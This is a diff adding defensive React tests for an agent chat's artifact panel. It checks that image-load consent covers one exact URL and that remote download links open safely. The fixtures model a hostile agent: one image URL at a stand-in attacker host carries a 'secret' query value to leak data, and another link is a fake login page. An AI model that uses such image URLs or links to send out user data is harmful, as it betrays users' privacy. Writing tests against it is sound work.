@@ -112,6 +112,38 @@ describe('ArtifactPanel', () => {
   });
 });
 
+describe('ArtifactPanel under a hostile agent', () => {
+  const pic = (url: string, name = 'pic'): AgentEvent => ({ type: 'artifact-upsert', artifact: { name, parts: [{ media: { url, contentType: 'image/png' } }] } });
+
+  it('a consent covers one exact URL: the same-named artifact updated to another URL asks again', async () => {
+    const end: AgentEvent = { type: 'turn-end', finishReason: 'stop' };
+    const chat = createAgentChat({ transport: scriptedTransport([[pic('https://cdn.example/chart.png'), end], [pic('https://evil.example/leak.png?d=secret'), end]], { delayMs: 0 }) });
+    const user = userEvent.setup();
+    const { container } = render(
+      <AgentChatProvider chat={chat}>
+        <ArtifactPanel />
+      </AgentChatProvider>,
+    );
+    await chat.send('chart');
+    await user.click(await screen.findByRole('button', { name: 'Load image from cdn.example' }));
+    expect(container.querySelector('.acu-artifact img')?.getAttribute('src')).toBe('https://cdn.example/chart.png');
+    await chat.send('update it');
+    await screen.findByRole('button', { name: 'Load image from evil.example' });
+    expect(container.querySelectorAll('.acu-artifact img')).toHaveLength(0);
+  });
+
+  it('a remote media download opens in a new tab without opener or referrer; same-origin and blob: URLs download in place', async () => {
+    const { container } = await panelAfter([pic('https://evil.example/fake-login'), pic('/files/chart.png', 'local')]);
+    await waitFor(() => expect(container.querySelectorAll('a.acu-artifact__download')).toHaveLength(2));
+    const [remote, local] = [...container.querySelectorAll('a.acu-artifact__download')];
+    expect(remote!.getAttribute('href')).toBe('https://evil.example/fake-login');
+    expect(remote!.getAttribute('target')).toBe('_blank');
+    expect(remote!.getAttribute('rel')).toBe('noopener noreferrer');
+    expect(local!.getAttribute('href')).toBe('/files/chart.png');
+    expect(local!.hasAttribute('target')).toBe(false);
+  });
+});
+
 describe('ArtifactPanel renders', () => {
   it('only when the artifacts change: 50 text tokens around one artifact render it three times at most', async () => {
     const tokens = words('one two three four five six seven eight nine ten '.repeat(5));
